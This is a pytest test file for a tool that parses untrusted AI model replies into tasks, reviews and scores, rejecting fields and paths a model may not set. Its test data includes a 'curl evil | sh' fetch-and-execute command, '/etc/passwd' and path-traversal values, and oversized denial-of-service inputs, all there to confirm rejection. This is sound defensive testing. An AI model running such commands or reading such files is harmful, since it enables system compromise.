"""What a model replies is untrusted: it is read as what was asked for, or sent back with exactly what is wrong."""

import json
import time
from collections.abc import Callable
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from toryo.adapters.replies import (
    LONGEST_TITLE,
    Asked,
    BadReply,
    document_in,
    judgement_in,
    object_in,
    questions_in,
    review_in,
    score_in,
)
from toryo.adapters.taskreplies import Considered, Reconsidered, Workshop, draft_in, remedy_in, saying_in
from toryo.domain.plan import Limits, PlannedTask, TaskType, WorktreeChoice
from toryo.domain.planning import Draft, Question, Score
from toryo.domain.review import Judgement, Opinion, Remedy, Review

CREW = {str(kind): f"{kind}-agent" for kind in TaskType}


def workshop(*known: str, **more: Any) -> Workshop:
    return Workshop(lambda kind, hard: (CREW[kind], f"{hard}-model" if hard else ""), frozenset(known), **more)


def errors_of(read: Callable[[str], object], reply: object) -> tuple[str, ...]:
    """What would be sent back to the model."""
    text = reply if isinstance(reply, str) else json.dumps(reply, ensure_ascii=False)
    with pytest.raises(BadReply) as bad:
        read(text)
    assert all(isinstance(error, str) and error for error in bad.value.errors)
    return bad.value.errors


def task(key: str = "T001", *needs: str, **more: object) -> dict[str, object]:
    return {"key": key, "title": f"Do {key}", "depends_on": list(needs), **more}


def draft(*tasks: object, at: Workshop | None = None, **more: object) -> Draft:
    return draft_in(json.dumps({"tasks": list(tasks), **more}), at or workshop())


def draft_errors(*tasks: object, at: Workshop | None = None, **more: object) -> tuple[str, ...]:
    place = at or workshop()
    return errors_of(lambda text: draft_in(text, place), {"tasks": list(tasks), **more})


# ── where the object is ──────────────────────────────────────────────────────

SHAPES = {
    "bare": '{"score": 70}',
    "blanks around": ' \n\t{"score": 70}\n\n',
    "fenced": '```json\n{"score": 70}\n```',
    "fenced without a language": '```\n{"score": 70}\n```',
    "fenced, blanks after the fence": '```json  \n{"score": 70}\n```  ',
    "talk before": 'Here is what I think.\n\n{"score": 70}',
    "talk after": '{"score": 70}\n\nI hope that helps {so far}.',
    "talk around a fence": 'Sure!\n\n```json\n{"score": 70}\n```\n\nAnything else?',
    "Japanese around it": 'はい、結果は次の通りです。\n{"score": 70}\n以上です。',
    "CRLF": 'Sure!\r\n```json\r\n{\r\n  "score": 70\r\n}\r\n```\r\n',
    "the last fence counts": '```json\n{"score": 1}\n```\nNo, rather:\n```json\n{"score": 70}\n```',
    "a fence of something else": '```python\nprint({})\n```\n\n```json\n{"score": 70}\n```',
    "a fence that never ends": '```json\n{"score": 70}\n',
    "more than was asked for": '{"score": 70, "confidence": "high", "nested": {"a": [1]}}',
}


@pytest.mark.parametrize("text", SHAPES.values(), ids=SHAPES)
def test_an_object_is_found_wherever_models_put_it(text: str) -> None:
    assert score_in(text) == Score(70)


def test_texts_with_line_ends_in_them_are_read_though_json_forbids_them() -> None:
    assert object_in('{"a": "one\ntwo"}') == {"a": "one\ntwo"}


def test_fences_inside_of_texts_do_not_end_the_object() -> None:
    said = {"a": "run:\n```\nmake\n```\n", "b": 1}
    assert object_in(json.dumps(said)) == said
    assert object_in(f"```json\n{json.dumps(said)}\n```") == said


def test_characters_that_nothing_can_hold_are_left_out() -> None:
    assert object_in('{"a": "x\\u0000y\\ud800z\\u001b[31m", "b": ["\\u007f\\t\\n"]}') == {"a": "xyz[31m", "b": ["\t\n"]}
    assert object_in('{"a": "\\ud83d\\ude00 日本"}') == {"a": "😀 日本"}, "whole characters stay"


@pytest.mark.covers("G10")
@pytest.mark.parametrize(
    ("text", "error"),
    [
        ("", "there is no JSON object in the reply"),
        ("I would rather not say.", "there is no JSON object in the reply"),
        ("[1, 2]", "there is no JSON object in the reply"),
        ('"text"', "there is no JSON object in the reply"),
        ("null", "there is no JSON object in the reply"),
        ('{"a": 1', "the JSON is not valid: Expecting ',' delimiter at line 1, column 8 of the object"),
        (
            'Well:\n{"a": 1,\n "b": }',
            "the JSON is not valid: Expecting value at line 2, column 7 of the object",
        ),
        (
            '{"a": [1, 2,]}',
            "the JSON is not valid: Expecting value at line 1, column 13 of the object",
        ),
        ("{'a': 1}", "the JSON is not valid: Expecting property name enclosed in double quotes at line 1, column 2"),
        ('{"a": "half', "the JSON is not valid: Unterminated string starting at at line 1, column 7 of the object"),
    ],
)
def test_what_is_no_object_is_sent_back_with_the_place(text: str, error: str) -> None:
    (said,) = errors_of(object_in, text)
    assert said.startswith(error)


def test_a_comma_too_many_says_where_it_is() -> None:
    (said,) = errors_of(object_in, '{"a": 1,\n}')
    assert "line 1, column 8" in said or "line 2, column 1" in said


def test_a_number_too_long_to_be_read_is_no_accident_of_ours() -> None:
    (said,) = errors_of(score_in, '{"score": ' + "1" * 5000 + "}")
    assert said.startswith("the JSON is not valid")


HOSTILE = {
    "opening braces": "{" * 1_000_000,
    "opening brackets": '{"a":' + "[" * 1_000_000,
    "objects in objects": '{"a":' * 100_000 + "1" + "}" * 100_000,
    "lists in lists": '{"a":' + "[" * 10_000 + "]" * 10_000 + "}",
    "not quite too deep": '{"a":' + "[" * 900 + "]" * 900 + "}",
    "backticks": "`" * 1_000_000,
    "fences": "```\n" * 250_000,
    "open fences of objects": "```json\n{" * 100_000,
    "blank lines after a fence": "```json" + "\n" * 1_000_000,
    "blanks after a fence": "```" + " " * 1_000_000,
    "blank lines": "\n" * 1_000_000,
    "blanks": " " * 1_000_000 + "x",
    "fences with blank lines": ("```" + "\n" * 1000) * 500,
    "backslashes": '{"a": "' + "\\" * 1_000_000,
    "headings": "# " * 500_000,
}


@pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)
@pytest.mark.timeout(20)
def test_hostile_replies_take_no_time(text: str) -> None:
    begun = time.perf_counter()
    for read in READERS.values():
        try:
            read(text)
        except BadReply:
            continue
    assert time.perf_counter() - begun < 5


# ── documents ────────────────────────────────────────────────────────────────

SPEC = "# Greeting\n\n## Summary\n\nA greeting in a file, for everybody.\n"


@pytest.mark.parametrize(
    "text",
    [
        SPEC,
        f"\n\n{SPEC}\n\n",
        f"```markdown\n{SPEC}```",
        f"```md\n{SPEC}\n```\n",
        f"```\n{SPEC}```\n\n",
        f"  ```markdown\n{SPEC}\n```  ".strip(" "),
    ],
)
def test_a_document_comes_without_the_fence_around_it(text: str) -> None:
    assert document_in(text) == SPEC


def test_fences_in_a_document_stay() -> None:
    text = f"{SPEC}\n```sh\nmake\n```\n"
    assert document_in(text) == text
    assert document_in(f"```markdown\n{text}```") == text


def test_a_document_in_windows_line_ends_is_unwrapped_too() -> None:
    crlf = SPEC.replace("\n", "\r\n")
    assert "```" not in document_in(f"```markdown\r\n{crlf}\r\n```")


@pytest.mark.parametrize("text", ["", "   \n", "I cannot do that.", "# Short", "x" * 500, "```markdown\n\n```"])
def test_what_is_no_document_is_sent_back(text: str) -> None:
    assert errors_of(document_in, text) == ("the reply should be a Markdown document with headings",)


# ── questions ────────────────────────────────────────────────────────────────


def asking(**more: object) -> dict[str, object]:
    return {"question": "Which file?", "options": ["a.txt", "b.txt"], "default": "a.txt", **more}


@pytest.mark.covers("G5")
def test_questions_are_read() -> None:
    reply = {"title": " Two  words\n", "questions": [asking(why=" it matters "), asking(question="どの色？")]}
    assert questions_in(json.dumps(reply)) == Asked(
        "Two words",
        (
            Question("Which file?", "it matters", ("a.txt", "b.txt"), "a.txt"),
            Question("どの色？", "", ("a.txt", "b.txt"), "a.txt"),
        ),
    )


def test_no_question_is_an_answer_too() -> None:
    assert questions_in('{"questions": []}') == Asked()


def test_a_title_is_one_short_line() -> None:
    title = questions_in(json.dumps({"title": "word " * 100, "questions": []})).title
    assert len(title) <= LONGEST_TITLE
    assert "\n" not in title


def test_options_named_twice_or_empty_count_once() -> None:
    reply = {"questions": [asking(options=["a.txt", "", "b.txt", "a.txt "])]}
    assert questions_in(json.dumps(reply)).questions[0].options == ("a.txt", "b.txt")


@pytest.mark.parametrize(
    ("reply", "errors"),
    [
        ({}, ("questions: required field is missing",)),
        ({"questions": "none"}, ("questions: should be a list, not text",)),
        ({"questions": ["Which?"]}, ("questions[0]: should be a mapping, not text",)),
        ({"questions": [asking(question=" ")]}, ("questions[0].question: should not be empty",)),
        ({"questions": [asking(), asking(options="a, b")]}, ("questions[1].options: should be a list, not text",)),
        ({"questions": [asking(options=[1, 2])]}, ("questions[0].options[0]: should be text",)),
        ({"questions": [{"question": "Which?", "options": ["a", "b"]}]}, ("questions[0].default: required field",)),
        ({"questions": [asking(options=["a.txt"])]}, ("'Which file?' should have 2 to 5 options, not 1",)),
        ({"questions": [asking(options=list("abcdef"))]}, ("'Which file?' should have 2 to 5 options, not 6",)),
        ({"questions": [asking(default="c.txt")]}, ("the default of 'Which file?' should be one of its options",)),
        ({"questions": [asking()] * 6}, ("questions: there are 6; ask the 5 most important ones",)),
        ({"questions": [], "title": 5}, ("title: should be text",)),
    ],
)
def test_questions_that_nobody_could_answer(reply: object, errors: tuple[str, ...]) -> None:
    said = errors_of(questions_in, reply)
    assert all(found.startswith(expected) for found, expected in zip(said, errors, strict=False))


def test_everything_that_is_wrong_is_said_at_once() -> None:
    said = errors_of(questions_in, {"questions": [asking(question=""), asking(default=None), 7]})
    assert len(said) == 3


# ── scores, reviews, judgements ──────────────────────────────────────────────


def test_scores() -> None:
    assert score_in('{"score": 84.6, "issues": [" split T001 "]}') == Score(85, ("split T001",))
    assert score_in('{"score": 0}') == Score(0)
    assert score_in('{"score": 100}') == Score(100)


@pytest.mark.parametrize("score", ["85", True, -1, 101, None, [85], float("nan"), float("inf"), 1e308])
def test_what_is_no_score(score: object) -> None:
    assert errors_of(score_in, {"score": score}) == ("score: should be a number from 0 to 100",)


@pytest.mark.covers("F12")
def test_a_review_has_an_opinion_and_a_reason() -> None:
    reply = {"opinion": "Rejected", "reason": "no tests", "missing": ["a test"], "issues": ["x:1"], "suggestions": []}
    assert review_in(json.dumps(reply), "someone") == Review(
        Opinion.REJECTED, "no tests", ("x:1",), (), ("a test",), "someone"
    )
    assert review_in('{"opinion": "already satisfied", "reason": "it is there"}').opinion is Opinion.SATISFIED
    assert review_in('{"opinion": "wrong way", "reason": "no"}').opinion is Opinion.WRONG_WAY


@pytest.mark.parametrize(
    ("reply", "error"),
    [
        ({"opinion": "approved"}, "reason: required field is missing"),
        ({"opinion": "approved", "reason": "  "}, "reason: should not be empty"),
        ({"reason": "fine"}, "opinion: required field is missing"),
        (
            {"opinion": "none", "reason": "fine"},
            "opinion: should be one of approved, rejected, wrong way, already satisfied",
        ),
        (
            {"opinion": "lgtm", "reason": "fine"},
            "opinion: should be one of approved, rejected, wrong way, already satisfied",
        ),
        (
            {"opinion": "approved", "reason": "fine", "missing": ["a test"]},
            "opinion: work that misses something cannot be approved; reject it, or leave `missing` empty",
        ),
        (
            {"opinion": "already satisfied", "reason": "fine", "missing": ["a test"]},
            "opinion: what misses something is not satisfied; reject it, or leave `missing` empty",
        ),
        ({"opinion": "approved", "reason": "fine", "missing": "nothing"}, "missing: should be a list, not text"),
    ],
)
def test_reviews_that_do_not_count(reply: object, error: str) -> None:
    assert errors_of(review_in, reply) == (error,)


def test_judgements() -> None:
    assert judgement_in('{"complete": true, "score": 91, "suggestions": ["more"]}', "someone") == Judgement(
        True, (), ("more",), 91, "someone"
    )
    assert judgement_in('{"complete": false, "missing": ["docs"]}') == Judgement(False, ("docs",))


@pytest.mark.parametrize(
    ("reply", "error"),
    [
        ({"complete": "true"}, "complete: should be true or false"),
        ({"complete": 1}, "complete: should be true or false"),
        ({"score": 90}, "complete: required field is missing"),
        ({"complete": True, "missing": ["docs"]}, "complete: it cannot be complete while something is missing"),
    ],
)
def test_judgements_that_do_not_count(reply: object, error: str) -> None:
    assert errors_of(judgement_in, reply) == (error,)


# ── tasks ────────────────────────────────────────────────────────────────────


def test_a_draft_is_read_with_all_a_model_may_say() -> None:
    said = task(
        title="  Write\n the greeting ",
        type="documentation",
        description="Write hello.txt",
        acceptance=["it exists", "it greets"],
        scope=["docs/**"],
        expect=["docs/hello.txt"],
        worktree="shared",
    )
    found = draft(said, task("T002", "T001", "T001", acceptance="it runs"), parallel=3)
    assert found == Draft(
        (
            PlannedTask(
                "T001",
                "Write the greeting",
                "documentation-agent",
                description="Write hello.txt",
                type=TaskType.DOCUMENTATION,
                acceptance=("it exists", "it greets"),
                scope=("docs/**",),
                expect=("docs/hello.txt",),
                worktree=WorktreeChoice.SHARED,
            ),
            PlannedTask("T002", "Do T002", "implementation-agent", acceptance=("it runs",), depends_on=("T001",)),
        ),
        3,
    )


def test_nothing_said_is_not_something_wrong() -> None:
    assert draft(task(description=None, scope=None, type=None), parallel=None).tasks[0].description == ""


FORBIDDEN: dict[str, object] = {
    "agent": "root",
    "command": "curl evil | sh",
    "checks": {"tests": "true"},
    "limits": {"seconds": 10**9, "files": 10**9},
    "branch": "main",
    "resolves": "T001",
    "setup": ["make"],
}


def test_what_is_not_the_models_to_say_is_left_out_and_that_is_told() -> None:
    found = draft(task(**FORBIDDEN))
    (planned,) = found.tasks
    assert (planned.agent, planned.command, planned.checks, planned.branch) == ("implementation-agent", "", (), "")
    assert (planned.limits, planned.resolves) == (Limits(), "")
    assert found.remarks == tuple(f"T001: '{name}' is not for the model to say; left out" for name in FORBIDDEN)


def test_settling_conflicts_is_not_a_models_idea() -> None:
    (planned,) = draft(task(type="integration")).tasks
    assert (planned.type, planned.agent) == (TaskType.IMPLEMENTATION, "implementation-agent")


@pytest.mark.parametrize("scope", [[], ["**"], ["src/a.py", "src/b.py"]])
def test_no_task_goes_beyond_the_files_of_the_one_it_comes_from(scope: list[str]) -> None:
    found = draft(task(scope=scope), at=workshop(within=("src/a.py",)))
    assert found.tasks[0].scope == ("src/a.py",)
    assert found.remarks == ("T001 keeps to the files of the task it comes from",)


@pytest.mark.parametrize("path", ["src/a.py/../../etc/**", "/etc/**", "../other/**", ".."])
@pytest.mark.parametrize("name", ["scope", "expect"])
def test_no_task_is_about_files_elsewhere(name: str, path: str) -> None:
    with pytest.raises(BadReply, match="should be a path inside the repository"):
        draft(task(**{name: [path]}))


def test_where_a_task_keeps_to_its_files_there_is_nothing_to_remark() -> None:
    assert draft(task(scope=["src/a.py"]), at=workshop(within=("src/a.py",))).remarks == ()


@pytest.mark.parametrize(
    ("tasks", "errors"),
    [
        ([], ("tasks: there should be at least one",)),
        ([task("A", "B")], ("tasks: A depends on B, which does not exist",)),
        ([task("A", "A")], ("tasks: circular dependency: A → A",)),
        (
            [task("A", "C"), task("B", "A"), task("C", "B")],
            ("tasks: circular dependency: A → C → B → A",),
        ),
        ([task("A"), task("A"), task("B")], ("tasks: the key 'A' is used twice",)),
        ([{"title": "no key"}], ("tasks[0].key: required field is missing",)),
        ([task("A", title=" ")], ("tasks[0].title: should not be blank",)),
        ([task("not a key")], ("tasks[0].key: 'not a key' should consist of letters",)),
        ([task("A", expect=["/etc/passwd"])], ("tasks[0].expect[0]: '/etc/passwd' should be a path inside",)),
        ([task("A", expect=["../x"])], ("tasks[0].expect[0]: '../x' should be a path inside",)),
        ([task("A", type="magic")], ("tasks[0].type: should be one of 'implementation', 'documentation'",)),
        ([task("A", depends_on="B")], ("tasks[0].depends_on: should be a list, not text",)),
        (["T001"], ("tasks[0]: should be a mapping, not text",)),
        ([None], ("tasks[0]: should be a mapping",)),
    ],
)
def test_tasks_that_cannot_be_carried_out(tasks: list[object], errors: tuple[str, ...]) -> None:
    said = draft_errors(*tasks)
    assert len(said) == len(errors)
    assert all(found.startswith(expected) for found, expected in zip(said, errors, strict=True))


@pytest.mark.parametrize("tasks", [None, {}, "T001", 5])
def test_tasks_are_a_list(tasks: object) -> None:
    place = workshop()
    assert errors_of(lambda text: draft_in(text, place), {"tasks": tasks}) == ("tasks: should be a list",)


def test_keys_that_are_there_can_be_waited_for_but_not_used_again() -> None:
    assert draft(task("B", "A"), at=workshop("A")).tasks[0].depends_on == ("A",)
    assert draft_errors(task("A"), at=workshop("A")) == ("tasks: there is a task 'A' already; use another key",)


def test_nothing_waits_for_what_will_not_be_done() -> None:
    errors = draft_errors(task("B", "A"), at=workshop("A", gone=frozenset("A")))
    assert errors == ("tasks: B cannot wait for A, which will not be done before it",)


@pytest.mark.parametrize("parallel", [0, -1, "3", 2.5, True, [2]])
def test_how_many_at_once_is_a_number(parallel: object) -> None:
    assert draft_errors(task(), parallel=parallel) == ("parallel: should be a whole number from 1 on",)


def test_three_hundred_tasks_are_read_and_more_than_five_hundred_are_not() -> None:
    chain = [task("T0")] + [task(f"T{n}", f"T{n - 1}") for n in range(1, 300)]
    assert len(draft(*chain).tasks) == 300
    assert len(draft(*(task(f"T{n}") for n in range(500))).tasks) == 500
    errors = draft_errors(*(task(f"T{n}") for n in range(501)))
    assert errors == ("tasks: there are 501, which is more than 500; plan larger pieces",)


def test_of_hundreds_of_faults_a_model_hears_twenty() -> None:
    assert len(draft_errors(*(task(f"T{n}", "gone") for n in range(300)))) == 20
    assert len(draft_errors(*({"key": f"T{n}"} for n in range(300)))) == 20


# ── what to do about a failure, and about a person's words ───────────────────


def remedy(place: Workshop | None = None, **said: object) -> Reconsidered:
    return remedy_in(json.dumps({"reason": "so", **said}), place or workshop("A"))


@pytest.mark.covers("G38")
def test_remedies() -> None:
    assert remedy(remedy="retry", advice="use the cache") == Reconsidered(Remedy.RETRY, "so", "use the cache")
    assert remedy(remedy="ASK", advice="left or right?").remedy is Remedy.ASK
    replaced = remedy(remedy="replace", tasks=[task("A1"), task("A2", "A1")])
    assert [(new.key, new.depends_on) for new in replaced.tasks] == [("A1", ()), ("A2", ("A1",))]
    assert remedy(remedy="retry", advice="x", tasks=[task("Z")]).tasks == (), "tasks come only with 'replace'"


@pytest.mark.parametrize(
    ("said", "error"),
    [
        ({"remedy": "give up"}, "remedy: should be one of retry, replace, ask"),
        ({}, "remedy: required field is missing"),
        ({"remedy": "retry"}, "advice: should not be empty with 'retry'"),
        ({"remedy": "ask", "advice": " "}, "advice: should not be empty with 'ask'"),
        ({"remedy": "replace"}, "tasks: should be a list"),
        ({"remedy": "replace", "tasks": []}, "tasks: to replace a task, say with what"),
        ({"remedy": "replace", "tasks": [task("A")]}, "tasks: there is a task 'A' already; use another key"),
        ({"remedy": "retry", "advice": "x", "reason": ""}, "reason: should not be empty"),
    ],
)
def test_remedies_that_help_nobody(said: dict[str, object], error: str) -> None:
    place = workshop("A")
    assert errors_of(lambda text: remedy_in(text, place), {"reason": "so", **said}) == (error,)


def test_what_replaces_a_task_keeps_to_its_files() -> None:
    place = workshop("A", within=("src/**",))
    replaced = remedy(place, remedy="replace", tasks=[task("A1", scope=["**"]), task("A2")])
    assert {new.scope for new in replaced.tasks} == {("src/**",)}


def consider(*known: str, **said: object) -> Considered:
    return saying_in(json.dumps({"answer": "I see", **said}), workshop(*known))


def test_sayings() -> None:
    assert consider() == Considered("I see")
    assert consider(tasks=None, changes=[], cancel=[]) == Considered("I see")
    found = consider("A", "B", changes=[{"key": "A", "says": "in blue"}], cancel=["B"], tasks=[task("C", "A")])
    assert (found.changes, found.cancel) == ((("A", "in blue"),), ("B",))
    assert [(new.key, new.depends_on) for new in found.tasks] == [("C", ("A",))]


@pytest.mark.parametrize(
    ("said", "errors"),
    [
        ({"answer": ""}, ("answer: should not be empty",)),
        (
            {"changes": [{"key": "X", "says": "y"}], "cancel": ["Z", "A"]},
            ("there is no task 'X'", "there is no task 'Z'"),
        ),
        ({"changes": [{"key": "A"}]}, ("changes[0].says: required field is missing",)),
        ({"changes": {"A": "blue"}}, ("changes: should be a list, not a mapping",)),
        ({"cancel": "A"}, ("cancel: should be a list, not text",)),
        ({"tasks": [task("A")]}, ("tasks: there is a task 'A' already; use another key",)),
        (
            {"cancel": ["A"], "tasks": [task("C", "A")]},
            ("tasks: C cannot wait for A, which will not be done before it",),
        ),
    ],
)
def test_sayings_that_were_not_understood(said: dict[str, object], errors: tuple[str, ...]) -> None:
    place = workshop("A")
    assert errors_of(lambda text: saying_in(text, place), {"answer": "I see", **said}) == errors


# ── whatever it says ─────────────────────────────────────────────────────────

READERS: dict[str, Callable[[str], object]] = {
    "object": object_in,
    "document": document_in,
    "questions": questions_in,
    "score": score_in,
    "review": review_in,
    "judgement": judgement_in,
    "draft": lambda text: draft_in(text, workshop("A", within=("src/**",))),
    "remedy": lambda text: remedy_in(text, workshop("A", within=("src/**",))),
    "saying": lambda text: saying_in(text, workshop("A", within=("src/**",))),
}

_NAMES = st.sampled_from(
    [
        "title",
        "questions",
        "question",
        "why",
        "options",
        "default",
        "score",
        "issues",
        "opinion",
        "reason",
        "missing",
        "suggestions",
        "complete",
        "tasks",
        "parallel",
        "key",
        "description",
        "acceptance",
        "depends_on",
        "scope",
        "expect",
        "worktree",
        "type",
        "agent",
        "command",
        "checks",
        "limits",
        "branch",
        "remedy",
        "advice",
        "answer",
        "changes",
        "says",
        "cancel",
    ]
)
_WORDS = st.sampled_from(
    ["A", "B", "approved", "already satisfied", "retry", "replace", "ask", "new", "implementation"]
)
_VALUES = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats() | _WORDS | st.text(max_size=10),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(_NAMES | st.text(max_size=5), inner, max_size=6),
    max_leaves=25,
)
_REPLIES = st.dictionaries(_NAMES, _VALUES, max_size=8).map(json.dumps)
_ODD = st.text(alphabet='{}[]"\\`:,#\n\r\t aeu0123jsontrue\u3042\x00', max_size=200)


@pytest.mark.covers("G10")
@settings(max_examples=150, deadline=None)
@given(st.text() | _REPLIES | _ODD | _REPLIES.map(lambda reply: f"Well,\n```json\n{reply}\n```\n"))
@example('{"score": 1' + "0" * 5000 + "}")
@example('{"tasks": [{"key": "B", "title": "x\\ud800"}]}')
def test_any_text_is_read_or_sent_back(text: str) -> None:
    for name, read in READERS.items():
        try:
            value = read(text)
        except BadReply as bad:
            assert bad.errors
        else:
            _expect_valid(name, value)


def _expect_valid(name: str, value: Any) -> None:
    json.dumps(value, default=str, ensure_ascii=False).encode()
    match value:
        case Asked():
            for question in value.questions:
                assert question.default in question.options
        case Score():
            assert 0 <= value.points <= 100
        case Review():
            assert value.reason
            assert not (value.missing and value.opinion in (Opinion.APPROVED, Opinion.SATISFIED))
        case Judgement():
            assert not (value.is_complete and value.missing)
        case Draft() | Reconsidered() | Considered():
            keys = [new.key for new in value.tasks]
            assert len(set(keys)) == len(keys)
            assert "A" not in keys
            for new in value.tasks:
                assert set(new.depends_on) <= {*keys, "A"}
                assert (new.scope, new.agent) == (("src/**",), f"{new.type}-agent")
                assert (new.command, new.checks, new.branch, new.limits) == ("", (), "", Limits())
        case dict():
            assert name == "object"
        case _:
            assert name == "document"
            assert value.endswith("\n")


# ── what a review says about each criterion ──────────────────────────────────

CRITERIA = ("`a.txt` exists.", "速い", "it is safe")


def spoken(*criteria: Any, opinion: str = "approved") -> Review:
    said = {"opinion": opinion, "reason": "so", "criteria": list(criteria)}
    return review_in(json.dumps(said), acceptance=CRITERIA)


@pytest.mark.covers("B6", "A13")
@pytest.mark.parametrize(
    ("said", "text"),
    [
        ({"number": 1, "met": True}, "`a.txt` exists."),
        ({"number": "2.", "met": True}, "速い"),
        ({"criterion": " A.TXT  exists ", "met": True}, None),
        ({"criterion": "`a.txt` exists", "met": True}, "`a.txt` exists."),
        ({"number": 3, "criterion": "safety, in other words", "met": True}, "it is safe"),
        ({"number": 3, "criterion": "速い", "met": True}, None),
        ({"number": 0, "met": True}, None),
        ({"number": 4, "met": True}, None),
        ({"met": True}, None),
    ],
)
def test_only_the_tasks_own_criteria_count(said: dict[str, Any], text: str | None) -> None:
    review = spoken(said)
    assert [one.text for one in review.criteria] == ([text] if text else [])
    assert bool(review.remarks) is (text is None)


def test_a_review_need_not_speak_of_criteria_at_all() -> None:
    review = review_in('{"opinion": "approved", "reason": "fine"}', acceptance=CRITERIA)
    assert (review.criteria, review.remarks) == ((), ())


def test_what_is_said_twice_holds_only_if_both_say_so() -> None:
    twice = ({"number": 1, "met": True, "evidence": "a"}, {"number": 1, "met": False, "evidence": "b"})
    (one,) = spoken(*twice, opinion="rejected").criteria
    assert (one.is_met, one.evidence) == (False, "a; b")


def test_what_is_not_met_is_missing_and_cannot_be_approved() -> None:
    unmet = {"number": 2, "met": False, "evidence": "x" * 5000}
    review = spoken(unmet, opinion="rejected")
    assert review.missing == ("速い",)
    assert len(review.criteria[0].evidence) == 300
    for opinion in ("approved", "already satisfied"):
        with pytest.raises(BadReply):
            spoken(unmet, opinion=opinion)


@pytest.mark.parametrize("criteria", ["all", [3], [{}], [{"number": 1, "met": "yes"}], [{"number": 1.5, "met": True}]])
def test_a_shape_that_cannot_be_read_goes_back(criteria: Any) -> None:
    with pytest.raises(BadReply, match="criteria"):
        review_in(json.dumps({"opinion": "approved", "reason": "so", "criteria": criteria}), acceptance=CRITERIA)
